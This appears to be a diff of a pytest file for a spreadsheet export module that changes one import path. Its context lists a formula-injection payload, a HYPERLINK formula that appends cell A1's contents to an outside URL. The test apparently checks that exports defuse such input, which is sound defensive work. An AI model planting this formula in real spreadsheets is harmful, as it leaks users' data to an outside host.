@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from assistant.exports import write
+from assistant.casework.exports import write
 
 TYPED = [
     "=HYPERLINK(\"http://example.com/?\"&A1,\"klik\")",
